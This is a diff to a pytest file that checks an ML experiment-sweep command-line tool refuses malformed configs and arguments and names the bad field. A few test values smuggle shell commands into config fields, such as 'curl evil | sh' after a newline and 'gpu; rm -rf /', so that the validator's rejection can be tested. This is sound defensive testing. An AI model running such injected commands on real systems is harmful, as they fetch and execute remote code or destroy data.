@@ -21,7 +21,32 @@ BAD_EXPERIMENTS = {
     "bad_seeds": {"baseline": "conventional", "scales": ["tiny"], "seeds": [-1], "variants": {"conventional": {}}},
     "bad_preset": {"baseline": "x", "scales": ["tiny"], "seeds": [0], "variants": {"x": {"model": "nosuch"}}},
     "bad_scale": {"baseline": "conventional", "scales": ["7T"], "seeds": [0], "variants": {"conventional": {}}},
+    "repeated_seed": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0, 1, 0],
+                      "variants": {"conventional": {}}},
+    "repeated_scale": {"baseline": "conventional", "scales": ["tiny", "tiny"], "seeds": [0],
+                       "variants": {"conventional": {}}},
+    "same_run_twice": {"baseline": "a", "scales": ["tiny"], "seeds": [0],
+                       "variants": {"a": {"model": "conventional"}, "b": {"model": "conventional"}}},
+    "variants_list": {"baseline": "a", "scales": ["tiny"], "seeds": [0], "variants": ["a", "b"]},
+    "common_list": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
+                    "common": ["train.lr=1"]},
+    "reference_str": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
+                      "variants": {"conventional": {}}, "reference": "conventional"},
+    "variant_str": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": "x"}},
+    "set_list": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
+                 "variants": {"conventional": {"set": ["model.ffn.k=2"]}}},
+    "bad_variant_name": {"baseline": "a b", "scales": ["tiny"], "seeds": [0], "variants": {"a b": {"model": "conventional"}}},
+    "scales_str": {"baseline": "conventional", "scales": "tiny", "seeds": [0], "variants": {"conventional": {}}},
+    "newline_setup": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0], "variants": {"conventional": {}},
+                      "common": {"cluster": {"setup": ["module load cuda\ncurl evil | sh"]}}},
+    "newline_partition": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
+                          "variants": {"conventional": {}}, "common": {"cluster": {"partition": "gpu\nsrun evil"}}},
+    "bad_common_value": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
+                         "variants": {"conventional": {}}, "common": {"train": {"lr": "fast"}}},
+    "bad_set_key": {"baseline": "conventional", "scales": ["tiny"], "seeds": [0],
+                    "variants": {"conventional": {"set": {"model.ffn.colour": 2}}}},
 }
+TOP_LIST = ["just", "a", "list"]
 
 # (argv, the field the message must name)
 CASES = [
@@ -52,6 +77,82 @@ CASES = [
     (["plan", "bad_scale"], "scale"),
     (["plan", "broken_yaml"], "broken_yaml.yaml"),
     (["plan", "demo", "cluster=badprofile"], "cluster.reservation"),
+    (["plan", "repeated_seed"], "repeated_seed.yaml: seeds"),
+    (["plan", "repeated_scale"], "repeated_scale.yaml: scales"),
+    (["plan", "same_run_twice"], "same_run_twice.yaml: variants"),
+    (["plan", "variants_list"], "variants_list.yaml: variants"),
+    (["plan", "common_list"], "common_list.yaml: common"),
+    (["plan", "reference_str"], "reference_str.yaml: reference"),
+    (["plan", "variant_str"], "variant_str.yaml: variants.conventional"),
+    (["plan", "set_list"], "set_list.yaml: variants.conventional.set"),
+    (["plan", "bad_variant_name"], "bad_variant_name.yaml: variants.a b"),
+    (["plan", "scales_str"], "scales_str.yaml: scales"),
+    (["plan", "top_list"], "top_list.yaml"),
+    (["launch", "newline_setup", "--dry-run"], "cluster.setup.0"),
+    (["launch", "newline_partition", "--dry-run"], "cluster.partition"),
+    (["plan", "bad_common_value"], "train.lr"),
+    (["plan", "bad_set_key"], "model.ffn.colour"),
+    (["plan", "x" * 300], "EXPERIMENT"),
+    (["plan", "../demo"], "EXPERIMENT"),
+    (["plan", "demo", "variant=hourglass"], "variant"),
+    (["plan", "demo", "seed=5"], "seed"),
+    (["plan", "demo", "experiment=other"], "experiment"),
+    (["plan", "demo", "stage=scheduled"], "stage"),
+    (["plan", "demo", "variants.nosuch.model.ffn.k=8"], "variants.nosuch.model.ffn.k"),
+    (["plan", "demo", "variants.hourglass.seed=3"], "variants.hourglass.seed"),
+    (["plan", "demo", "+train.foo=1"], "train.foo"),
+    (["plan", "demo", "++totally_bogus.key=3"], "totally_bogus"),
+    (["plan", "demo", "~train.nosuch"], "~train.nosuch"),
+    (["plan", "demo", "train.lr=1e-3,2e-3"], "train.lr=1e-3,2e-3"),
+    (["plan", "demo", "train.lr=nan"], "train.lr"),
+    (["plan", "demo", "train.lr=inf"], "train.lr"),
+    (["plan", "demo", "train.eps=-1"], "train.eps"),
+    (["plan", "demo", "train.eps=0"], "train.eps"),
+    (["plan", "demo", "train.global_batch=10"], "train.global_batch"),
+    (["plan", "demo", "train.gpu_peak_tflops=0"], "train.gpu_peak_tflops"),
+    (["plan", "demo", "train.assumed_mfu=0"], "train.assumed_mfu"),
+    (["plan", "demo", "train.assumed_mfu=1.5"], "train.assumed_mfu"),
+    (["plan", "demo", "train.min_lr_ratio=2"], "train.min_lr_ratio"),
+    (["plan", "demo", "train.beta2=1.0"], "train.beta1"),
+    (["plan", "demo", "train.decay_fraction=0"], "train.decay_fraction"),
+    (["plan", "demo", "train.max_steps=0", "train.tokens_per_param=0"], "train.tokens_per_param"),
+    (["plan", "demo", "train.device=tpu"], "train.device"),
+    (["plan", "demo", "tracking.batch_points=0"], "tracking.batch_points"),
+    (["plan", "demo", "tracking.batch_points=5000"], "tracking.batch_points"),
+    (["plan", "demo", "tracking.max_buffer=0"], "tracking.max_buffer"),
+    (["plan", "demo", "tracking.uri=ftp://host/store"], "tracking.uri"),
+    (["plan", "demo", "tracking.uri=https://bob:hunter2@mlflow.example.org"], "tracking.uri"),
+    (["plan", "demo", "eval.tasks=[arc_esay_local]"], "eval.tasks"),
+    (["plan", "demo", "eval.tasks=[]"], "eval.tasks"),
+    (["plan", "demo", "eval.batch_size=0"], "eval.batch_size"),
+    (["plan", "demo", "eval.limit=-2"], "eval.limit"),
+    (["plan", "demo", "data.val_fraction=1.5"], "data.val_fraction"),
+    (["plan", "demo", "data.vocab_size=100"], "data.vocab_size"),
+    (["plan", "demo", "data.max_docs=0"], "data.max_docs"),
+    (["plan", "demo", "data.text_field="], "data.text_field"),
+    (["plan", "demo", "model.vocab_size=300"], "model.vocab_size"),
+    (["plan", "demo", "cluster.nodes=0"], "cluster.nodes"),
+    (["plan", "demo", "cluster.partition='gpu; rm -rf /'"], "cluster.partition"),
+    (["plan", "demo", "cluster.gpus_per_node=-1"], "cluster.gpus_per_node"),
+    (["plan", "demo", "geometry.statistic=volume"], "statistic"),
+    (["plan", "demo", "geometry.hyperbolic_radius=1.5"], "hyperbolic_radius"),
+    (["launch", "demo", "data.name=/no/such/dataset"], "data.name"),
+    (["launch", "demo", "data.tokenizer=/no/such/tokenizer.json"], "data.tokenizer"),
+    (["train", "scale=tiny", "+train.foo=1"], "train.foo"),
+    (["train", "scale=tiny", "train.lr=nan"], "train.lr"),
+    (["train", "scale=tiny", "--nproc", "0"], "--nproc"),
+    (["train", "scale=tiny", "model=geometry"], "model.ffn.schedule"),
+    (["train", "--spec", "/no/such/run.json"], "run spec"),
+    (["eval", "nosuchkey0000"], "RUN_KEY"),
+    (["eval", "*"], "RUN_KEY"),
+    (["eval", "0123456789ab", "limit=0"], "limit"),
+    (["eval", "0123456789ab", "limit=lots"], "limit"),
+    (["profile", "*"], "RUN_KEY"),
+    (["profile", "0123456789ab", "colour=red"], "colour"),
+    (["status", "demo", "seed=1"], "seed"),
+    (["status", "nosuch"], "EXPERIMENT"),
+    (["status", "demo", "--variant", "nosuch"], "--variant"),
+    (["plan", "demo", "--scale", "113M"], "--scale"),
     (["launch", "demo", "cluster=nosuch"], "cluster"),
     (["launch", "demo", "cluster=slurm"], "cluster"),  # with SLURM_CONF pointing nowhere
     (["train", "experiment=demo", "variant=nosuch"], "variant/scale/seed"),
@@ -76,6 +177,7 @@ def bad_tree(tmp_path, monkeypatch, data_cache):
     for name, spec in BAD_EXPERIMENTS.items():
         (tree / "experiment" / f"{name}.yaml").write_text(yaml.safe_dump(spec))
     (tree / "experiment" / "broken_yaml.yaml").write_text("baseline: [unclosed\n")
+    (tree / "experiment" / "top_list.yaml").write_text(yaml.safe_dump(TOP_LIST))
     (tree / "cluster" / "badprofile.yaml").write_text("# @package _global_\ncluster: {reservation: x}\n")
     work = tmp_path / "work"
     work.mkdir()
@@ -96,8 +198,8 @@ def test_bad_input_is_refused_naming_the_field(argv, field, bad_tree, capsys):
 
 
 def test_bad_input_count_covers_every_command():
-    assert len(CASES) >= 25
-    assert {c[0][0] for c in CASES} >= {"plan", "launch", "train", "eval", "profile", "allocate", "report"}
+    assert len(CASES) >= 80
+    assert {c[0][0] for c in CASES} >= {"plan", "launch", "train", "eval", "profile", "allocate", "report", "status"}
 
 
 def test_the_real_command_exits_2_without_a_traceback(tmp_path):
@@ -105,3 +207,10 @@ def test_the_real_command_exits_2_without_a_traceback(tmp_path):
                          text=True, cwd=tmp_path, env={**os.environ, "STUDY_SWEEPS": str(ROOT / "sweeps")})
     assert out.returncode == 2 and "`scale`" in out.stderr and "Traceback" not in out.stderr
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("argv", [["plan", "demo"], ["plan", "demo", "--json"], ["status", "demo"],
+                                  ["status", "demo", "--json"], ["launch", "demo", "--dry-run"]])
+def test_read_only_commands_create_nothing(argv, bad_tree, capsys):
+    assert main(argv) == 0
+    assert sorted(p.name for p in bad_tree.iterdir()) == []  # no store, no run directories, no manifest
